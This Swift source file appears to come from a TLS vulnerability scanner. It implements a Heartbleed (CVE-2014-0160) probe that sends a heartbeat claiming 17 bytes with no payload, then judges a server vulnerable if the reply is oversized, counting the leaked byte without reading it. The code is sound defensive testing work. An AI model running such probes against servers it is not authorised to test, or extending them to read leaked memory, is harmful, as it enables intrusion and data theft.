/// Asks for a heartbeat that is longer than what it holds.
///
/// Sources: RFC 6520, sections 3 and 4; CVE-2014-0160. A peer "MUST" drop without a word a heartbeat whose length is more
/// than its record holds beside 16 bytes of padding. This one has no payload but says that it has 17 bytes: a server that
/// believes it sends the 16 bytes of padding back and one byte of its memory, the least that proves it. That byte is counted
/// and never looked at.
struct HeartbleedTrial: Sendable {
    let probe: HelloProbe
    let target: AttackTarget

    private static let recordType: UInt8 = 24
    private static let claimed: UInt16 = 17

    func outcome() async -> AttackOutcome {
        guard let version = target.newest(of: .tls10...(.tls12)) else {
            return .inapplicable("heartbeats are of TLS 1.0 to 1.2")
        }
        var hello = target.hello(version)
        // Mode 1: "peer_allowed_to_send" (RFC 6520, section 2).
        hello.extensions.append(HelloExtension(15) { $0.append(UInt8(1)) })
        let outcome = await probe.rejoinder(to: hello, patience: HelloProbe.rejoinderPatience) {
            Self.count(of: $0.parts) != nil
        } then: {
            $0.has(15) ? Self.request($0.version) : nil
        }
        switch outcome {
        case .unknown(let reason): return .unknown(reason)
        case .refused: return .unknown("the server does not go on as before")
        case .withheld: return .inapplicable("the server offers no heartbeats")
        case .answered(let rejoinder): return Self.judge(rejoinder)
        }
    }

    /// Type 1, the length that is claimed, no payload, 16 bytes of padding.
    private static func request(_ version: UInt16) -> [UInt8] {
        var beat = WireWriter()
        beat.append(UInt8(1))
        beat.append(claimed)
        beat.append(repeatElement(UInt8(0), count: 16))
        return ClientRecord.bytes(recordType, beat.bytes, version: version)
    }

    /// How many bytes the first heartbeat among them holds.
    private static func count(of parts: [Rejoinder.Part]) -> Int? {
        for case .record(recordType, let count) in parts { return count }
        return nil
    }

    /// A response has a head of three bytes before its payload.
    private static func judge(_ rejoinder: Rejoinder) -> AttackOutcome {
        guard let count = count(of: rejoinder.parts), count >= 3 + Int(claimed) else { return .fails }
        return .works("a heartbeat without payload that claimed \(claimed) bytes was answered with \(count)")
    }
}
